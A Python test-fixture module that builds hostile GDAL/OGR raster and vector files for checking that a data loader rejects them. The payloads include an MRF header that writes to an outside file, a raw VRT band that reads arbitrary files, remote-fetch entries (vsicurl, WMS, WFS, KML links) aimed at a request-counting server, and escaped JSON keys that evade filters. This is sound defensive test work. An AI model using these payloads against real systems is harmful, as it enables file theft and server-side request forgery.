"""Files that are programs under the names of data: each would write, read or fetch something else."""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import rasterio

EDGE = 64
CANARY = b"a file of somebody else\n"
SECRET = bytes(range(256)) * 16


@dataclass(frozen=True)
class Targets:
    """What the attacks are after."""

    canary: Path
    """A file that MRF would append to; must stay as it is."""
    secret: Path
    """A raw file that a VRT would read."""
    other: Path
    """A raster elsewhere."""
    address: str
    """Of a server that counts requests."""


def make_targets(folder: Path, address: str) -> Targets:
    """Files outside the folder of scenes."""
    folder.mkdir(parents=True)
    (folder / "canary").write_bytes(CANARY)
    (folder / "secret").write_bytes(SECRET)
    with rasterio.open(
        folder / "other.tif", "w", driver="GTiff", width=EDGE, height=EDGE, count=1, dtype="uint8",
        crs="EPSG:32616", transform=rasterio.Affine(30, 0, 5e5, 0, -30, 4e6),
    ) as file:  # fmt: skip
        file.write(np.full((1, EDGE, EDGE), 77, np.uint8))
    return Targets(folder / "canary", folder / "secret", folder / "other.tif", address)


def vrt(band: str, dataset: str = "", kind: str = "") -> str:
    """A VRT of one band."""
    return (
        f'<VRTDataset rasterXSize="{EDGE}" rasterYSize="{EDGE}">{dataset}'
        f'<VRTRasterBand dataType="Byte" band="1"{kind}>{band}</VRTRasterBand></VRTDataset>'
    )


def source(name: str) -> str:
    """A source of a VRT's band; its size is left to GDAL, which must open it."""
    return (
        f'<SimpleSource><SourceFilename relativeToVRT="0">{name}</SourceFilename>'
        "<SourceBand>1</SourceBand></SimpleSource>"
    )


def raw_band(path: Path) -> str:
    """A VRT that shows the bytes of any file as pixels."""
    band = (
        f'<SourceFilename relativeToVRT="0">{path}</SourceFilename><ImageOffset>0</ImageOffset>'
        f"<PixelOffset>1</PixelOffset><LineOffset>{EDGE}</LineOffset>"
    )
    return vrt(band, kind=' subClass="VRTRawRasterBand"')


def rasters(to: Targets) -> dict[str, str]:
    """The texts of hostile rasters by name."""
    url = to.address
    window = (
        "<DataWindow><UpperLeftX>-180</UpperLeftX><UpperLeftY>90</UpperLeftY><LowerRightX>180</LowerRightX>"
        "<LowerRightY>-90</LowerRightY><SizeX>64</SizeX><SizeY>64</SizeY></DataWindow>"
        "<BandsCount>3</BandsCount>"
    )
    return {
        "mrf": (
            f"<MRF_META><CachedSource><Source>{to.other}</Source></CachedSource><Raster>"
            f'<Size x="{EDGE}" y="{EDGE}" c="1"/><PageSize x="{EDGE}" y="{EDGE}" c="1"/>'
            f"<Compression>NONE</Compression><DataType>Byte</DataType><DataFile>{to.canary}</DataFile>"
            f"<IndexFile>{to.canary.parent / 'index'}</IndexFile></Raster></MRF_META>"
        ),
        "raw": raw_band(to.secret),
        "nested": vrt(source(str(to.other))),
        "vsicurl": vrt(source(f"/vsicurl/{url}/x.tif")),
        "wms": (
            f'<GDAL_WMS><Service name="WMS"><Version>1.1.1</Version><ServerUrl>{url}/wms?</ServerUrl>'
            f"<Layers>a</Layers><SRS>EPSG:4326</SRS></Service>{window}</GDAL_WMS>"
        ),
        "wmts": (
            f"<GDAL_WMTS><GetCapabilitiesUrl>{url}/wmts</GetCapabilitiesUrl><Layer>a</Layer></GDAL_WMTS>"
        ),
        "wcs": (
            f"<WCS_GDAL><ServiceURL>{url}/wcs?</ServiceURL><Version>1.0.0</Version>"
            "<CoverageName>a</CoverageName></WCS_GDAL>"
        ),
        "gti": (
            f"<GDALTileIndexDataset><IndexDataset>/vsicurl/{url}/i.gpkg</IndexDataset></GDALTileIndexDataset>"
        ),
    }


def vectors(to: Targets) -> dict[str, str]:
    """The texts of hostile vector files by name."""
    ring = [[500_100, 3_999_000], [501_000, 3_999_000], [501_000, 3_999_900], [500_100, 3_999_000]]
    shape = {"type": "Polygon", "coordinates": [ring]}
    layer = {
        "type": "FeatureCollection",
        "features": [{"type": "Feature", "properties": {}, "geometry": shape}],
    }
    (to.canary.parent / "other.geojson").write_text(json.dumps(layer))
    link = {"type": "link", "properties": {"href": f"{to.address}/crs", "type": "ogcwkt"}}
    linked = json.dumps({**layer, "crs": link})

    def virtual(path: str) -> str:
        return (
            f'<OGRVRTDataSource><OGRVRTLayer name="other"><SrcDataSource>{path}</SrcDataSource>'
            "</OGRVRTLayer></OGRVRTDataSource>"
        )

    return {
        "virtual": virtual(f"{to.canary.parent}/other.geojson"),
        "virtual-url": virtual(f"/vsicurl/{to.address}/x.geojson"),
        "polyglot": json.dumps({"a": virtual(f"{to.canary.parent}/other.geojson").replace('"', "'")}),
        "wfs": f"<OGRWFSDataSource><URL>{to.address}/wfs</URL></OGRWFSDataSource>",
        "gml": (
            '<wfs:FeatureCollection xmlns:wfs="http://www.opengis.net/wfs" '
            'xmlns:gml="http://www.opengis.net/gml" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
            f'xsi:schemaLocation="a {to.address}/s?request=DescribeFeatureType&amp;typename=a">'
            "<gml:featureMember/></wfs:FeatureCollection>"
        ),
        "crs-link": linked,
        "crs-link-escaped": linked.replace('"crs"', r'"\u0063rs"').replace('"link"', r'"l\u0069nk"'),
        "kml-network-link": (
            '<?xml version="1.0"?><kml xmlns="http://www.opengis.net/kml/2.2"><Document><NetworkLink><Link>'
            f"<href>{to.address}/x.kml</href></Link></NetworkLink></Document></kml>"
        ),
    }
